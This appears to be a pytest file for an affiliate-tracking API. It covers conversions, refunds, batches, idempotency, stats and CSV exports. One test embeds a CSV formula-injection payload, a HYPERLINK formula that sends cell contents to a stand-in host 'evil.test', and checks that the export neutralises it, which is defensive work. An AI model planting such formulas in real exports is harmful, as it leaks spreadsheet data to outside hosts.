"""Conversions over the API: attribution by click and code, refunds, batches, idempotency."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import func, select

from crosspromo.errors import InvalidInputError
from crosspromo.services.track import report
from crosspromo.spreadsheet import FORMULA_STARTS, SafeWriter
from crosspromo.store import tables as t
from crosspromo.store.repositories import ConversionRepository
from tests.web.conftest import World

SALE: dict[str, Any] = {
    "type": "sale",
    "occurred_at": "2026-02-01T10:00:00Z",
    "amount_minor": 4999,
    "currency": "EUR",
    "order_id": "A-1",
}


def _stored(world: World) -> int:
    db = world.client.app.state.db  # type: ignore[attr-defined]
    with db.transaction() as s:
        return int(s.execute(select(func.count()).select_from(t.conversions)).scalar_one())


def _post(world: World, body: dict[str, Any], key: str | None = None, path: str = "") -> Any:
    headers = world.auth("acme") | ({"Idempotency-Key": key} if key else {})
    return world.client.post(f"/api/v1/conversions{path}", json=body, headers=headers)


def test_sale_credited_through_a_click(world: World) -> None:
    hop = world.client.get(f"/r/{world.link_codes['acme']}", follow_redirects=False)
    click = parse_qs(urlsplit(hop.headers["location"]).query)["cp_click"][0]
    r = _post(world, SALE | {"click_id": click, "customer_external_id": "Ann@Example.com"})
    assert r.status_code == 201, r.text
    body = r.json()
    assert (body["partner"], body["click_id"], body["amount_minor"]) == ("beans", click, 4999)


def test_referral_code_credits_the_partner(world: World) -> None:
    r = _post(world, {"type": "lead", "occurred_at": "2026-02-01T10:00:00+01:00",
                      "referral_code": "BEANS10"})  # fmt: skip
    assert r.json()["partner"] == "beans"
    assert r.json()["occurred_at"].startswith("2026-02-01T09:00:00")


def test_refunds_reverse_their_sale(world: World) -> None:
    assert _post(world, SALE | {"referral_code": "BEANS10"}).status_code == 201
    refund = SALE | {"type": "refund", "amount_minor": 1000}
    first = _post(world, refund)
    assert first.status_code == 201
    assert first.json()["partner"] == "beans", "a refund debits the partner its sale credited"
    over = _post(world, refund | {"amount_minor": 4000})
    assert over.status_code == 422
    assert over.json()["detail"] == (
        "row 0: refund of 4000 exceeds what is left of the sale (3999)"
    )
    missing = _post(world, refund | {"order_id": "nope"})
    assert missing.status_code == 422
    assert "no sale with order_id 'nope'" in missing.json()["detail"]
    wrong_currency = _post(world, refund | {"currency": "USD"})
    assert "the refund is in USD, the sale in EUR" in wrong_currency.json()["detail"]


def test_batch_is_all_or_nothing_and_names_the_row(world: World) -> None:
    before = _stored(world)
    rows = [SALE | {"order_id": "B-1"}, SALE | {"order_id": "B-2"}, SALE | {"click_id": "nope"}]
    r = _post(world, {"conversions": rows}, path="/batch")
    assert r.status_code == 422
    assert r.json()["detail"] == "row 2: unknown click id 'nope'"
    assert r.json()["field"] == "click_id"
    assert _stored(world) == before
    ok = _post(world, {"conversions": rows[:2]}, path="/batch")
    assert ok.status_code == 201
    assert ok.json()["count"] == 2
    assert _stored(world) == before + 2


def test_idempotency_key_replays_and_refuses_other_bodies(world: World) -> None:
    first = _post(world, SALE, key="order-A-1")
    assert first.status_code == 201
    before = _stored(world)
    again = _post(world, dict(reversed(list(SALE.items()))), key="order-A-1")  # same, reordered
    assert again.status_code == 201
    assert again.json() == first.json()
    assert again.headers["idempotency-replayed"] == "true"
    assert _stored(world) == before
    other = _post(world, SALE | {"amount_minor": 1}, key="order-A-1")
    assert other.status_code == 409
    assert other.json()["code"] == "conflict"
    assert _stored(world) == before


def test_money_is_validated(world: World) -> None:
    for body, field in [
        (SALE | {"currency": "eur"}, "currency"),
        (SALE | {"amount_minor": 12.5}, "amount_minor"),
        (SALE | {"amount_minor": -5}, "amount_minor"),
        ({k: v for k, v in SALE.items() if k != "currency"}, None),
        (SALE | {"occurred_at": "2026-02-01T10:00:00"}, "occurred_at"),
    ]:
        r = _post(world, body)
        assert r.status_code == 422, (body, r.text)
        if field:
            assert field in r.json()["detail"]


def test_codes_api(world: World) -> None:
    auth = world.auth("acme")
    r = world.client.post(
        "/api/v1/codes",
        json={"partner": "beans", "code": "SPRING-20", "kind": "coupon"},
        headers=auth,
    )
    assert r.status_code == 201
    assert r.json()["kind"] == "coupon"
    listed = world.client.get("/api/v1/codes", headers=auth).json()
    assert [c["code"] for c in listed["items"]] == ["BEANS10", "SPRING-20"]
    coupon = _post(world, SALE | {"coupon_code": "SPRING-20"})
    assert coupon.json()["partner"] == "beans"
    wrong_kind = _post(world, SALE | {"referral_code": "SPRING-20"})
    assert wrong_kind.status_code == 422


def test_far_dates_are_refused(world: World) -> None:
    r = _post(world, {"type": "lead", "occurred_at": "0001-01-01T00:11:43+02:02"})
    assert r.status_code == 422
    assert r.json()["detail"] == "row 0: occurred_at must lie between 2000-01-01 and 2100-01-01"


def test_link_stats_count_clicks_and_conversions(world: World) -> None:
    code = world.link_codes["acme"]
    human = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126"}
    clicks = []
    for headers in [human, human, {"user-agent": "Slackbot 1.0"}]:
        hop = world.client.get(f"/r/{code}", headers=headers, follow_redirects=False)
        clicks.append(parse_qs(urlsplit(hop.headers["location"]).query)["cp_click"][0])
    _post(world, {"type": "lead", "occurred_at": "2026-02-01T10:00:00Z", "click_id": clicks[0]})
    _post(world, SALE | {"click_id": clicks[0]})
    _post(world, SALE | {"click_id": clicks[1], "order_id": "A-2", "amount_minor": 1000})
    _post(world, SALE | {"type": "refund", "amount_minor": 999})
    _post(world, SALE | {"referral_code": "BEANS10", "order_id": "not-via-link"})
    stats = world.client.get(f"/api/v1/links/{code}/stats", headers=world.auth("acme")).json()
    assert stats == {
        "clicks": 3,  # with the world's first click
        "unique_clicks": 2,
        "bot_clicks": 1,
        "leads": 1,
        "sales": 2,
        "revenue_minor": 4999 + 1000 - 999,
        "currency": "EUR",
        "revenue_by_currency": {"EUR": 5000},
    }


def test_daily_stats_json_and_csv(world: World) -> None:
    code = world.link_codes["acme"]
    hop = world.client.get(f"/r/{code}", headers={"user-agent": "Mozilla/5.0 (X11) Firefox/130"},
                           follow_redirects=False)  # fmt: skip
    click = parse_qs(urlsplit(hop.headers["location"]).query)["cp_click"][0]
    today = datetime.now(UTC).date().isoformat()
    _post(world, SALE | {"click_id": click, "occurred_at": f"{today}T08:00:00Z"})
    auth = world.auth("acme")
    body = world.client.get("/api/v1/stats/daily", headers=auth).json()
    assert body["end"] == today
    [row] = [r for r in body["items"] if r["day"] == today]
    expected = ("beans", "launch", 2, 1)  # two human clicks: the world's first, and this one
    assert (row["partner"], row["campaign"], row["clicks"], row["sales"]) == expected
    assert row["revenue_by_currency"] == {"EUR": 4999}
    csv_text = world.client.get(f"/api/v1/stats/daily.csv?from={today}&to={today}", headers=auth)
    assert csv_text.headers["content-type"].startswith("text/csv")
    lines = csv_text.text.splitlines()
    assert (
        lines[0]
        == "day,partner,campaign,clicks,unique_clicks,bot_clicks,leads,sales,revenue_minor,currency"
    )
    assert lines[1] == f"{today},beans,launch,2,2,0,0,1,4999,EUR"
    bad = world.client.get("/api/v1/stats/daily?from=2026-05-02&to=2026-05-01", headers=auth)
    assert bad.status_code == 422
    assert "is after" in bad.json()["detail"]
    for query, field in (("to=0001-01-01", "to"), ("from=9999-12-31", "from")):  # fuzzer finds
        far = world.client.get(f"/api/v1/stats/daily.csv?{query}", headers=auth)
        assert far.status_code == 422, far.text
        assert f"{field} (" in far.json()["detail"]
        assert "must lie between 2000-01-01 and 2100-01-01" in far.json()["detail"]


def test_csv_exports_do_not_carry_formulas(world: World) -> None:
    """Finding 9: a campaign named like a formula ran when a manager opened the export."""
    formula = '=HYPERLINK("https://evil.test/?"&A1,"open")'
    made = world.client.post(
        "/api/v1/links", headers=world.auth("acme"),
        json={"partner": "beans", "destination": "https://acme.example/", "campaign": formula},
    )  # fmt: skip
    assert made.status_code == 201, made.text
    world.client.get(f"/r/{made.json()['code']}", headers={"user-agent": "Mozilla/5.0 Firefox"})
    today = datetime.now(UTC).date().isoformat()
    csv_text = world.client.get(
        f"/api/v1/stats/daily.csv?from={today}&to={today}", headers=world.auth("acme")
    ).text
    rows = list(csv.reader(io.StringIO(csv_text)))
    [row] = [r for r in rows if formula in r[2]]
    assert row[2] == "'" + formula
    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_formula_cell_becomes_text(text: str) -> None:
    buffer = io.StringIO()
    SafeWriter(buffer).writerow([text, -5, "plain", "a=b"])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        "'" + text.replace("\r", "\n"),
        "-5",
        "plain",
        "a=b",
    ]


def test_tracking_report_per_link_code_and_campaign(world: World) -> None:
    """The Tracking tab's table: a link's clicks meet its sales on one row, a code and a
    server's credit get rows of their own, and every view sums to the same totals."""
    code = world.link_codes["acme"]
    human = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/126"}
    hops = [world.client.get(f"/r/{code}", headers=h, follow_redirects=False)
            for h in (human, {"user-agent": "Slackbot 1.0"})]  # fmt: skip
    click = parse_qs(urlsplit(hops[0].headers["location"]).query)["cp_click"][0]
    today = datetime.now(UTC).date()
    at = f"{today}T08:00:00Z"
    for body in (
        SALE | {"click_id": click, "occurred_at": at},
        {"type": "lead", "occurred_at": at, "referral_code": "BEANS10"},
        SALE
        | {"referral_code": "BEANS10", "order_id": "B", "amount_minor": 2000, "occurred_at": at},
        SALE | {"type": "refund", "order_id": "B", "amount_minor": 500, "occurred_at": at},
    ):
        assert _post(world, body).status_code == 201, body
    db = world.client.app.state.db  # type: ignore[attr-defined]
    acme = world.org_ids["acme"]
    with db.transaction() as session:  # a first purchase an import credited to the partner
        ConversionRepository(session).add_many([{
            "org_id": acme, "kind": "sale", "partner_org_id": world.org_ids["beans"],
            "link_id": None, "click_id": None, "code_id": None, "order_id": "S",
            "customer_hash": None, "amount_minor": 1000, "currency": "EUR",
            "occurred_at": datetime.combine(today, datetime.min.time(), UTC),
        }])  # fmt: skip
    start = today - timedelta(days=29)

    def rows(view: str) -> report.TrackingReport:
        return report.tracking_report(
            db, acme, start, today, report.Order.parse(view, "partner", "asc", 1)
        )

    links = rows("links")
    by_source = {r.source: r for r in links.rows}
    assert set(by_source) == {code, "referral BEANS10", ""}
    link = by_source[code]
    assert (link.clicks, link.bot_clicks, link.sales, link.revenue_by_currency) == (
        2,
        1,
        1,
        {"EUR": 4999},  # with the world's first click
    )
    assert str(link.short_url).endswith(f"/r/{code}")
    referral = by_source["referral BEANS10"]
    assert (referral.clicks, referral.leads, referral.sales) == (0, 1, 1)
    assert referral.revenue_by_currency == {"EUR": 1500}, "the refund is taken off"
    assert referral.conversion_rate is None, "no clicks: no rate"
    assert by_source[""].revenue_by_currency == {"EUR": 1000}
    totals = links.totals
    assert (totals.clicks, totals.leads, totals.sales) == (2, 1, 3)
    assert totals.revenue_by_currency == {"EUR": 4999 + 1500 + 1000}
    assert totals.epc("EUR") == (4999 + 1500 + 1000) / 2
    campaigns = {r.campaign: r for r in rows("campaigns").rows}
    assert campaigns["launch"].revenue_by_currency == {"EUR": 4999}
    assert campaigns[""].revenue_by_currency == {"EUR": 2500}, "the code and the server's credit"
    for view in ("links", "campaigns", "days"):
        shown = rows(view).rows
        summed = (sum(r.clicks for r in shown), sum(r.sales for r in shown),
                  sum(r.revenue_by_currency.get("EUR", 0) for r in shown))  # fmt: skip
        assert summed == (2, 3, 7499), view
    by_revenue = report.Order.parse("links", "revenue", "desc", 1)
    exported = list(csv.DictReader(io.StringIO(
        report.tracking_csv(db, acme, start, today, by_revenue)
    )))  # fmt: skip
    assert [int(r["revenue_minor"]) for r in exported] == [4999, 1500, 1000]
    assert exported[0]["earnings_per_click_minor"] == "2499.5"
    with pytest.raises(InvalidInputError, match="sort must be one of"):
        report.Order.parse("links", "day", None, 1)  # a column the view has not
